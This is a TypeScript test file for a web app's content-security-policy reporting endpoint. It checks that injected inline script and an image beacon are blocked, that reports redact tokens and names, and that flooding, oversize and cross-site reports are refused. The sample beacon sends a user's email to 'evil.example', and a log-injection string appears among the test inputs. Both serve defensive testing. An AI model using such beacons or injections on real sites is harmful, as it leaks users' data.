import { chromium as browserType } from "@playwright/test";
import { afterAll, beforeAll, expect, test } from "vitest";
import { chromium } from "../../../playwright.config.ts";
import type { Web } from "../../../scripts/process.ts";
import { cast } from "../../../server/seed/cast.ts";
import { type Answer, freshAddress, Visitor } from "../../support/browser.ts";
import { TestApp } from "../../support/test-app.ts";

let app: TestApp;
let web: Web;
beforeAll(async () => {
  app = await TestApp.open({ TRUSTED_PROXIES: "127.0.0.1,::1" });
  web = await app.web();
});
afterAll(() => app?.close());

const address = "/content-policy-reports";
const words = "a browser refused what the content policy does not allow";
type Line = { page: string; directive: string; wanted: string };
const reports = (): Line[] => web.logged.filter((line) => line.includes(words)).map((line) => JSON.parse(line));
const visitor = () => new Visitor({ site: web.url, address: freshAddress() });

function report(fields: Record<string, string>, from = visitor(), padding = 0): Promise<Answer> {
  const body = JSON.stringify({ "csp-report": { ...fields, padding: "x".repeat(padding) } });
  const headers = { "Content-Type": "application/csp-report", "Sec-Fetch-Site": "same-origin" };
  return from.send("POST", address, headers, body);
}

test("catalogue:N23 what a page was refused is told to us by the browser itself, on pages made ahead and on others", async () => {
  const browser = await browserType.launch(chromium);
  try {
    const page = await browser.newPage();
    for (const path of ["/plans", "/contact?from=/plans"]) {
      await page.goto(`${web.url}${path}`);
      await page.evaluate(() => {
        const script = document.createElement("script");
        script.textContent = "window.isEvil = true";
        document.head.append(script);
        new Image().src = "https://evil.example/pixel.png?who=maya@harbourlane.example";
      });
      expect(await page.evaluate(() => "isEvil" in window)).toBe(false);
    }
    const seen = () =>
      reports()
        .map(({ page, directive, wanted }) => `${page} ${directive} ${wanted}`)
        .toSorted();
    await expect
      .poll(seen, { timeout: 20_000 })
      .toEqual([
        "/contact img-src evil.example",
        "/contact script-src-elem inline",
        "/plans img-src evil.example",
        "/plans script-src-elem inline",
      ]);
    expect(web.logged.filter((line) => /maya|pixel|isEvil|from=/.test(line))).toEqual([]);
  } finally {
    await browser.close();
  }
});

test("catalogue:N23 a report names no secret and nobody, whatever is in it, and is one short line", async () => {
  const before = reports().length;
  const origin = web.url;
  const hostile = [
    `${origin}/clients/password/00000000-0000-4000-8000-0000000000a1.c2VjcmV0?to=/x`,
    `${origin}/pay/00000000-0000-4000-8000-000000000601.c2VjcmV0`,
    `${origin}/projects/${cast.maya.projects[0].id}?name=Maya`,
    `${origin}/nothing/Maya%20Okafor`,
    "https://evil.example/Maya",
    'not an address\n{"level":60}',
  ];
  for (const page of hostile) {
    const sent = {
      "document-uri": page,
      "blocked-uri": "inline",
      "violated-directive": "script-src 'self'",
      "script-sample": "c2VjcmV0 Maya",
    };
    expect((await report(sent)).status).toBe(204);
  }
  await expect.poll(() => reports().length - before).toBe(hostile.length);
  const lines = web.logged.filter((line) => line.includes(words)).slice(before);
  expect(lines.map((line) => JSON.parse(line).page)).toEqual([
    "/clients/password/:token",
    "/pay/:token",
    "/projects/:projectId",
    "/*",
    "other",
    "other",
  ]);
  for (const line of lines) {
    expect(line).not.toMatch(/c2VjcmV0|Maya|0000-4000|127\.0\.0\.1|198\.18/);
    expect(line.length).toBeLessThan(400);
  }
});

test("catalogue:N23 reports are few for each address and small, come from our own pages, and change nothing", async () => {
  const flooder = visitor();
  const before = reports().length;
  const answers = await Promise.all(Array.from({ length: 40 }, () => report({ "blocked-uri": "inline" }, flooder)));
  const taken = answers.filter(({ status }) => status === 204).length;
  expect(taken).toBeGreaterThanOrEqual(10);
  expect(taken).toBeLessThanOrEqual(12);
  expect(answers.filter(({ status }) => status === 429)).toHaveLength(40 - taken);
  await expect.poll(() => reports().length - before).toBe(taken);
  expect((await report({ "blocked-uri": "inline" })).status).toBe(204);

  expect((await report({}, visitor(), 20_000)).status).toBe(413);
  expect((await report({}, visitor(), 10_000)).status).toBe(204);
  const sent = async (headers: Record<string, string>, body: string, method = "POST") =>
    (await visitor().send(method, address, headers, body)).status;
  expect(await sent({ "Sec-Fetch-Site": "cross-site" }, "{}")).toBe(403);
  expect(await sent({}, "{}")).toBe(403);
  expect(await sent({ "Sec-Fetch-Site": "same-origin" }, "not a report")).toBe(400);
  expect(await sent({}, "", "GET")).toBe(405);
});

test("catalogue:N23 logging out clears what the browser kept of pages, and neither what was written nor the known device", async () => {
  for (const path of ["/clients/logout", "/clients/logout.data"]) {
    const maya = visitor();
    await maya.signIn(cast.maya);
    const device = maya.cookies.get("tenday.device");
    const answer = await maya.post(path, {});
    expect([path, answer.headers["clear-site-data"]]).toEqual([path, '"cache"']);
    expect([await maya.isIn(), maya.cookies.get("tenday.device")]).toEqual([false, device]);
    expect(device).toBeTruthy();
  }
});
